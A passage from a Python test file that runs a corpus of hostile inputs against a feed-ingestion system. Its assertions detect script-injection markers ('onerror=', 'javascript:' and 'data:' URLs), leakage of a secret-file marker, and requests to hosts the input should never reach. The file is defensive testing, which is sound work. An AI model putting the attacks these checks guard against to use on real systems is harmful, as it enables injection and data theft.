    assert [json.loads(line)["id"] for line in lines] == sorted(Article.objects.values_list("id", flat=True))
    yield "jsonl", out.getvalue()


OUTPUTS = (page_output, csv_output, atom_output, api_output, jsonl_output)


def assert_outputs_safe(client: Client) -> None:
    cache.clear()  # the API's throttle counts requests in the cache, across the cases
    for output in OUTPUTS:
        for where, text in output(client):
            found = INVISIBLE.search(text)
            assert found is None, (output.__name__, where, hex(ord(found.group())))


@pytest.mark.parametrize("case", CASES, ids=[case.id for case in CASES])
def test_hostile_input(case: Case, web, other_web, client, tmp_path):
    if case.first:
        case.first(web)
    target = case.serve(web, other_web)
    url = target if target.startswith("http") else web.url(target)
    policy = POLICIES[case.policy]
    report = IngestReport()
    started = time.monotonic()

    if case.expect == "queued":
        outcome = url_ingest(url=url, policy=policy)
        assert outcome.error == "" and outcome.kind == "feed"
    elif case.from_file:
        path = tmp_path / Path(target).name
        path.write_bytes(web.routes[target].body)
        path_ingest(path, report=report)
    else:
        InProcess(report, policy=policy).url_ingest(url)

    assert time.monotonic() - started < 30  # a hang guard: every fetch is bounded by the policy's timeouts
    if case.expect == "error":
        assert report.failures, f"expected a recorded error, got {dict(report.counts)}"
        reasons = " | ".join(reason for _where, reason in report.failures)
        assert all(reason for _where, reason in report.failures)
        assert case.reason.lower() in reasons.lower(), reasons
        failed = IngestItem.objects.filter(status=ItemStatus.FAILED).values_list("error", flat=True)
        fetch_errors = FeedFetch.objects.filter(status=FeedFetch.Status.FAILED).values_list("error", flat=True)
        assert any(failed) or any(fetch_errors), "the error is recorded on a row, not only reported"
        assert not Article.objects.exists()
    elif case.expect == "article":
        assert report.failures == [], report.failures
        assert Article.objects.exists()
    for article in Article.objects.all():
        markup = re.sub(r">[^<]*<", "><", article.body_html)  # the tags alone: "onerror=" written as text is text
        assert not UNSAFE.search(markup), (case.id, UNSAFE.search(markup).group(0))
        assert not article.url.lower().startswith(("javascript:", "data:"))
    assert SECRET_FILE_MARK not in stored_text()
    if case.never_hit:
        assert other_web.hits(case.never_hit) == 0, f"the input made us request {case.never_hit}"
    if case.check:
        case.check()
    assert_nothing_half_written()
    if Article.objects.exists():
        assert_outputs_safe(client)


def test_corpus_size(capsys):
    """The issue asks for at least 40 hostile inputs; the count is printed with the results."""
    assert len(CASES) >= 40
    assert len({case.id for case in CASES}) == len(CASES)
    with capsys.disabled():
        print(f"\nhostile-input corpus: {len(CASES)} cases "
              f"({sum(c.expect == 'error' for c in CASES)} end in a recorded error, "
              f"{sum(c.expect != 'error' for c in CASES)} in clean articles or queued entries)")
